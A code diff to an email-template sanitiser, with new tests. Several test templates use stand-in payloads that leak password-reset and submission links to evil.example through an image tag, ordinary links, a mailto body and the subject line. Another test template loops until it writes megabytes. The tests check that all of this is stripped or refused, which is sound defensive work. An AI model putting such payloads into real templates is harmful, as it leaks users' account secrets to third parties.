@@ -553,7 +553,8 @@ fn sanitise(html: &str, docket_url: &str) -> (String, Vec<String>) {
         ammonia::Builder::default()
             .add_tags(["table", "thead", "tbody", "tr", "th", "td", "caption"])
             .rm_tags(["img"])
-            .url_schemes(["http", "https"].into())
+            // mailto stays in the list only so that the filter below sees (and reports) it.
+            .url_schemes(["http", "https", "mailto"].into())
             .url_relative(ammonia::UrlRelative::Deny)
             .attribute_filter(move |_, attribute, value| match attribute {
                 "href" | "cite" | "src" if !is_own_link(value, &docket_url) => {
@@ -867,6 +868,84 @@ mod tests {
         assert!(!rendered.html.contains("onclick"), "{}", rendered.html);
         assert!(!rendered.html.contains("<img"), "{}", rendered.html);
         assert!(rendered.html.contains("&lt;img"), "{}", rendered.html);
+    }
+
+    #[test]
+    fn no_account_email_carries_its_secret_in_the_subject() {
+        for letter in Letter::ALL.into_iter().filter(|letter| letter.is_account()) {
+            let sample = sample(letter, &head(), "https://d.example");
+            let rendered = render(&letter.default_template(), &sample).unwrap();
+            for secret in ["48213907", "SAMPLE-TOKEN"] {
+                assert!(
+                    !rendered.subject.contains(secret),
+                    "{letter:?}: {}",
+                    rendered.subject
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn a_call_s_stored_wording_of_an_account_email_is_never_used() {
+        let head = Letterhead::for_call(
+            head().call.unwrap(),
+            vec![StoredTemplate {
+                kind: "reset_password".into(),
+                template: TemplateText {
+                    subject: "Reset {{ link }}".into(),
+                    text: "{{ link }}".into(),
+                    html: "<img src=\"https://evil.example/?t={{ link }}\">".into(),
+                },
+                updated_by: "user:1".into(),
+                updated_at: jiff::Timestamp::UNIX_EPOCH,
+            }],
+        );
+        let (template, own) = head.template(Letter::ResetPassword);
+        assert!(!own);
+        assert_eq!(template, Letter::ResetPassword.default_template());
+    }
+
+    #[test]
+    fn images_and_links_away_from_docket_are_removed_when_a_mail_is_rendered() {
+        let template = TemplateText {
+            subject: "Hello https://evil.example/s".into(),
+            text: "See https://evil.example/?t={{ piece.link }} or {{ piece.link }}".into(),
+            html: "<p><img src=\"https://evil.example/p.gif?t={{ piece.link }}\"><a href=\"https://evil.example/\">x</a> <a href=\"{{ piece.link }}\">yours</a> <a href=\"mailto:a@evil.example?body={{ piece.link }}\">m</a></p>".into(),
+        };
+        let context = full_context(
+            &head(),
+            "https://d.example",
+            "a@example.org",
+            context! { piece => context! { title => "T", link => "https://d.example/submissions/1" } },
+        );
+        let rendered = render(&template, &context).unwrap();
+        assert!(!rendered.html.contains("evil.example"), "{}", rendered.html);
+        assert!(!rendered.html.contains("<img"), "{}", rendered.html);
+        assert!(
+            rendered
+                .html
+                .contains("href=\"https://d.example/submissions/1\""),
+            "{}",
+            rendered.html
+        );
+        assert!(!rendered.text.contains("evil.example"), "{}", rendered.text);
+        assert!(rendered.text.contains("https://d.example/submissions/1"));
+        assert!(!rendered.subject.contains("evil.example"));
+        assert_eq!(rendered.removed.len(), 6, "{:?}", rendered.removed);
+    }
+
+    #[test]
+    fn a_template_that_writes_megabytes_is_stopped_while_it_writes() {
+        let mut template = Letter::Receipt.default_template();
+        template.text =
+            "{% for i in range(20000) %}{{ piece.link }}{{ piece.link }}{% endfor %}".into();
+        let problems = check(
+            Letter::Receipt,
+            &template,
+            &sample(Letter::Receipt, &head(), "https://d.example"),
+        );
+        assert_eq!(problems.len(), 1, "{problems:?}");
+        assert!(problems[0].message.contains("far longer"), "{problems:?}");
     }
 
     #[test]
